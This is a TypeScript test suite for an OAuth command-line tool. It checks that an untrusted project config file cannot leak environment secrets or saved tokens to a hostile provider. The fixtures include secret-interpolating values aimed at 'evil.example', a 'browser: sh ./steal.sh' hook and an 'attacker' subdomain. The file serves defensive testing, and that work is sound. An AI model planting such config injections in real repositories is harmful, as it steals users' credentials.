import { chmodSync, existsSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { callback, type FarProvider, openFarProvider, visit } from '../support/far-provider.ts'
import { type Ended, failureOf, newPerson, type Person } from '../support/person.ts'

const secret = 'the-real-github-app-secret'

/** Everything that a run left on the disk, as one text. */
function allFiles(folder: string): string {
  if (!existsSync(folder)) return ''
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => readFileSync(join(entry.parentPath, entry.name), 'utf8'))
    .join('\n')
}

/** Somebody in a fresh clone of a stranger's repository, whose file holds `text`. */
async function inClone(text: (thief: FarProvider) => string): Promise<{ person: Person; thief: FarProvider }> {
  const [person, thief] = [newPerson(), await openFarProvider()]
  person.write('auth-cli.yaml', text(thief))
  return { person, thief }
}

function template(name: string, { origin }: FarProvider, ...fields: string[]): string {
  return [
    'templates:',
    `  ${name}:`,
    `    display_name: ${name}`,
    '    docs: https://example.com/docs',
    '    auth_mode: OAUTH2',
    `    authorization_url: ${origin}/authorize`,
    `    token_url: ${origin}/token`,
    ...fields.map((field) => `    ${field}`),
    '',
  ].join('\n')
}

/** Nothing was opened, nothing was sent, nothing was told. */
function expectNothing(ended: Ended, thief: FarProvider, person: Person): void {
  expect(thief.received).toEqual([])
  expect(ended.stdout).toBe('')
  expect(ended.stderr).not.toContain('response_type')
  expect(ended.stderr + allFiles(person.home)).not.toContain(secret)
}

describe.concurrent('the project file of a stranger', () => {
  it('gets no secret of the environment by a template under a known name', async () => {
    const { person, thief } = await inClone((far) => template('github', far))
    const env = { GITHUB_CLIENT_ID: 'real-id', GITHUB_CLIENT_SECRET: secret, BROWSER: 'true' }
    const ended = await person.run(['connect', 'github', '--port', '0', '--json'], { env })
    expect([ended.status, failureOf(ended).code]).toEqual([2, 'PROJECT_UNTRUSTED'])
    expect(failureOf(ended).message).toContain('GITHUB_CLIENT_SECRET')
    expect(failureOf(ended).message).toContain(new URL(thief.origin).host)
    expect(failureOf(ended).hint).toContain('--trust-project')
    expectNothing(ended, thief, person)
    const dry = await person.run(['connect', 'github', '--dry-run', '--json'], { env })
    expect([dry.status, failureOf(dry).code]).toEqual([2, 'PROJECT_UNTRUSTED'])
  })

  it.each([
    ['client_id', 'integrations:\n  mine: { provider: far, client_id: "${SECRET}" }\n'],
    ['client_secret', 'integrations:\n  mine: { provider: far, client_id: x, client_secret: "${SECRET}" }\n'],
    ['params', 'integrations:\n  mine: { provider: far, client_id: x, params: { account: "${SECRET}" } }\n'],
    ['scopes', 'integrations:\n  mine: { provider: far, client_id: x, scopes: ["${SECRET}"] }\n'],
    [
      'authorization_params',
      'integrations:\n  mine: { provider: far, client_id: x, authorization_params: { a: "b${SECRET}" } }\n',
    ],
    ['token_params', 'integrations:\n  mine: { provider: far, client_id: x, token_params: { a: "b${SECRET}" } }\n'],
    [
      'callback_url',
      'integrations:\n  mine: { provider: far, client_id: x, callback_url: "https://evil.example/${SECRET}" }\n',
    ],
  ])('gets no variable by ${…} in %s', async (_, entry) => {
    const { person, thief } = await inClone(
      (far) =>
        template(
          'far',
          far,
          'connection_config:',
          '  account: { type: string, title: A, description: Which, optional: true }',
          'authorization_params: { account: "${connectionConfig.account}" }',
        ) + entry,
    )
    const ended = await person.run(['connect', 'mine', '--port', '0', '--json'], {
      env: { SECRET: secret, BROWSER: 'true' },
    })
    expect([ended.status, failureOf(ended).code]).toEqual([2, 'PROJECT_UNTRUSTED'])
    expect(failureOf(ended).message).toContain('SECRET')
    expectNothing(ended, thief, person)
  })

  it.each([
    'authorization_params: { state: "${SECRET}" }',
    'scopes: ["${SECRET}"]',
    'token_params: { a: "b${SECRET}" }',
  ])('gets no variable by an honest provider that may hand it on: %s', async (field) => {
    const { person, thief } = await inClone(
      () =>
        `integrations:\n  mine: { provider: gitlab, client_id: x, callback_url: https://evil.example/, ${field} }\n`,
    )
    const ended = await person.run(['connect', 'mine', '--port', '0', '--json'], {
      env: { SECRET: secret, BROWSER: 'true' },
    })
    expect([ended.status, failureOf(ended).code]).toEqual([2, 'PROJECT_UNTRUSTED'])
    expectNothing(ended, thief, person)
  })

  it('may read the id and secret of a known provider from the environment', async () => {
    const { person } = await inClone(
      () =>
        'integrations:\n  mine: { provider: gitlab, client_id: "${GITLAB_ID}", client_secret: "${GITLAB_SECRET}" }\n',
    )
    const ended = await person.run(['connect', 'mine', '--dry-run', '--json'], {
      env: { GITLAB_ID: 'my-id', GITLAB_SECRET: secret },
    })
    expect(ended.status).toBe(0)
    expect(ended.stdout).toContain('client_id=my-id')
    expect(ended.stdout).not.toContain(secret)
    const missing = await person.run(['connect', 'mine', '--dry-run', '--json'])
    expect([missing.status, failureOf(missing).code]).toEqual([2, 'MISSING_INPUT'])
    expect(failureOf(missing).message).toContain('GITLAB_ID')
  })

  it('gets no saved answer that is a secret', async () => {
    const person = newPerson()
    const question = (more: string): string[] => [
      'connection_config:',
      `  pin: { type: string, title: Pin, description: Yours${more} }`,
      'authorization_params: { pin: "${connectionConfig.pin}" }',
    ]
    const [honest, thief] = [await openFarProvider(), await openFarProvider()]
    person.write('home/auth-cli.yaml', honest.project(...question(', secret: true')))
    const flow = person.start(['connect', 'far', '--client-id', 'x', '--pin', 'env:PIN', '--port', '0'], {
      cwd: join(person.cwd, 'home'),
      env: { BROWSER: 'true', PIN: secret },
    })
    await visit(callback(await flow.url(), { code: 'c0de' }))
    expect((await flow.ended).status).toBe(0)
    person.write('clone/auth-cli.yaml', thief.project(...question('')))
    const how = { cwd: join(person.cwd, 'clone'), env: { BROWSER: 'true' } }
    const words = ['connect', 'far', '--port', '0', '--json']
    const untrusted = await person.run(words, how)
    expect([untrusted.status, failureOf(untrusted).code]).toEqual([2, 'PROJECT_UNTRUSTED'])
    const trusted = await person.run([...words, '--trust-project'], how)
    expect([trusted.status, failureOf(trusted).code]).toEqual([2, 'ORIGIN_CHANGED'])
    expect(untrusted.stderr + trusted.stderr).not.toContain(secret)
  })

  it('gets no secret by choosing the host of a known template', async () => {
    const { person, thief } = await inClone(
      () => 'integrations:\n  zendesk: { provider: zendesk, params: { subdomain: attacker } }\n',
    )
    const env = { ZENDESK_CLIENT_ID: 'real-id', ZENDESK_CLIENT_SECRET: secret, BROWSER: 'true' }
    const ended = await person.run(['connect', 'zendesk', '--port', '0', '--json'], { env })
    expect([ended.status, failureOf(ended).code]).toEqual([2, 'PROJECT_UNTRUSTED'])
    expect(failureOf(ended).message).toMatch(/ZENDESK_CLIENT_SECRET.*attacker\.zendesk\.com/)
    expectNothing(ended, thief, person)
  })

  it('gets no saved secret, neither untrusted nor, for other origins, trusted', async () => {
    const person = newPerson()
    const [honest, thief] = [await openFarProvider(), await openFarProvider()]
    person.write('home/auth-cli.yaml', honest.project())
    const flow = person.start(['connect', 'far', '--client-id', 'x', '--client-secret', '-', '--port', '0'], {
      cwd: join(person.cwd, 'home'),
      env: { BROWSER: 'true' },
      input: secret,
    })
    await visit(callback(await flow.url(), { code: 'c0de' }))
    expect((await flow.ended).status).toBe(0)
    person.write('clone/auth-cli.yaml', thief.project())
    const cwd = join(person.cwd, 'clone')
    const codes = []
    for (const words of [
      ['connect', 'far', '--port', '0'],
      ['connect', 'far', '--port', '0', '--trust-project'],
    ]) {
      const ended = await person.run([...words, '--json'], { cwd, env: { BROWSER: 'true' } })
      codes.push([ended.status, failureOf(ended).code])
      expect(ended.stderr).not.toContain(secret)
    }
    expect(codes).toEqual([
      [2, 'PROJECT_UNTRUSTED'],
      [2, 'ORIGIN_CHANGED'],
    ])
    expect((await person.run(['token', 'far'], { cwd })).stdout).toBe('access-1-bWFueSBsZXR0ZXJz\n')
    expect((await person.run(['request', 'far', '/x'], { cwd })).status).toBe(0)
    const stolen = await person.run(['request', 'far', `${thief.origin}/x`, '--json'], { cwd })
    expect([stolen.status, failureOf(stolen).code]).toEqual([2, 'OTHER_ORIGIN'])
    expect((await person.run(['refresh', 'far', '--force'], { cwd })).status).toBe(0)
    expect(thief.received).toEqual([])
    expect(honest.received.map(({ path }) => path)).toEqual(['/token', '/api/x', '/token'])
  })

  it('runs no browser of its own until it is trusted', async () => {
    const { person, thief } = await inClone((far) => `browser: sh ./steal.sh\n${template('far', far)}`)
    person.write('steal.sh', `echo "$1" > '${person.cwd}/stolen'\n`)
    const words = ['connect', 'far', '--client-id', 'x', '--port', '0']
    const flow = person.start(words)
    await visit(callback(await flow.url(), { code: 'c0de' }))
    expect((await flow.ended).status).toBe(0)
    expect(existsSync(join(person.cwd, 'stolen'))).toBe(false)
    const trusted = person.start([...words, '--trust-project'])
    await visit(callback(await trusted.url(), { code: 'c0de' }))
    expect((await trusted.ended).status).toBe(0)
    expect(existsSync(join(person.cwd, 'stolen'))).toBe(true)
    expect(thief.received).toHaveLength(2)
  })

  it('may listen nowhere but here, and its callback URL is never silent', async () => {
    const { person } = await inClone((far) => `callback_url: https://evil.example/cb\n${template('far', far)}`)
    const flow = person.start(['connect', 'far', '--client-id', 'x', '--port', '0'], { env: { BROWSER: 'true' } })
    const url = await flow.url()
    expect(url.searchParams.get('redirect_uri')).toBe('https://evil.example/cb')
    expect(flow.stderr()).toContain('https://evil.example/cb')
    flow.child.kill('SIGINT')
    await flow.ended
  })

  it('is refused where everybody can write it', async () => {
    const { person } = await inClone((far) => template('far', far))
    chmodSync(join(person.cwd, 'auth-cli.yaml'), 0o666)
    for (const words of [
      ['connect', 'far', '--client-id', 'x', '--dry-run'],
      ['connect', 'sandbox', '--dry-run'],
    ]) {
      const ended = await person.run([...words, '--json'])
      expect([ended.status, ended.stdout, failureOf(ended).code]).toEqual([2, '', 'PROJECT_REFUSED'])
    }
    expect((await person.run(['connections', '--json'])).stdout).toBe('[]\n')
  })

  it('says so where its template hides another', async () => {
    const { person, thief } = await inClone((far) => template('github', far))
    const flow = person.start(['connect', 'github', '--client-id', 'x', '--port', '0', '-q'], {
      env: { BROWSER: 'true' },
    })
    await visit(callback(await flow.url(), { code: 'c0de' }))
    const { status, stderr } = await flow.ended
    expect(status).toBe(0)
    expect(stderr).toMatch(/Using the template in \S+auth-cli\.yaml; it hides built-in \(\S+github\.yaml\)/)
    expect(thief.received).toHaveLength(1)
    const other = await inClone((far) => template('quite-new', far))
    const quiet = await other.person.run(['connect', 'quite-new', '--client-id', 'x', '--dry-run'])
    expect(quiet.stderr).not.toContain('hides')
  })

  it('is trusted once per content', async () => {
    const { person, thief } = await inClone((far) => template('far', far))
    const env = { FAR_CLIENT_ID: 'x', FAR_CLIENT_SECRET: secret }
    const dry = (...words: string[]) => person.run(['connect', 'far', '--dry-run', '--json', ...words], { env })
    expect((await dry()).status).toBe(2)
    expect((await dry('--trust-project')).status).toBe(0)
    expect((await dry()).status).toBe(0)
    person.write('auth-cli.yaml', `${template('far', thief)}# another content\n`)
    const changed = await dry()
    expect([changed.status, failureOf(changed).code]).toEqual([2, 'PROJECT_UNTRUSTED'])
  })

  it('is put before the person on a terminal, with each variable and each host', async () => {
    const { person, thief } = await inClone((far) => template('far', far))
    const env = { FAR_CLIENT_ID: 'x', FAR_CLIENT_SECRET: secret }
    const ask = person.startOnTerminal(['connect', 'far', '--dry-run'], { env })
    const [question] = await ask.shows(/wants secrets of yours[\s\S]*Trust this file\?/)
    expect(question).toMatch(/FAR_CLIENT_ID, FAR_CLIENT_SECRET/)
    expect(question.replace(/\s+/g, '')).toContain(new URL(thief.origin).host)
    ask.type('n\r')
    const { status, stdout } = await ask.ended
    expect([status, stdout.includes('not trusted')]).toEqual([2, true])
    const yes = person.startOnTerminal(['connect', 'far', '--dry-run'], { env })
    await yes.shows(/Trust this file\?/)
    yes.type('y\r')
    expect((await yes.ended).status).toBe(0)
    expect((await person.run(['connect', 'far', '--dry-run'], { env })).status).toBe(0)
  })

  it('needs no trust for what is given as a flag', async () => {
    const { person } = await inClone((far) => template('far', far))
    const env = { S: secret }
    const ended = await person.run(['connect', 'far', '--client-id', 'x', '--client-secret', 'env:S', '--dry-run'], {
      env,
    })
    expect(ended.status).toBe(0)
  })

  it('cannot take the name of a template silently by an integration of another provider', async () => {
    const { person } = await inClone(
      (far) => `${template('far', far)}integrations:\n  github: { provider: far, client_id: x }\n`,
    )
    const ended = await person.run(['connect', 'github', '--dry-run', '--json'])
    expect([ended.status, failureOf(ended).code]).toEqual([2, 'NAME_TAKEN'])
  })

  it('that is broken disturbs only what asks for it', async () => {
    const { person } = await inClone((far) => `${template('far', far)}  half: { display_name: Half }\n`)
    const ended = await person.run(['connect', 'half', '--dry-run', '--json'])
    expect([ended.status, failureOf(ended).code]).toEqual([3, 'TEMPLATE_INVALID'])
    expect(ended.stdout).toBe('')
    expect((await person.run(['connect', 'far', '--client-id', 'x', '--dry-run'])).status).toBe(0)
    expect((await person.run(['connect', 'gitlab', '--client-id', 'x', '--dry-run'])).status).toBe(0)
  })
})
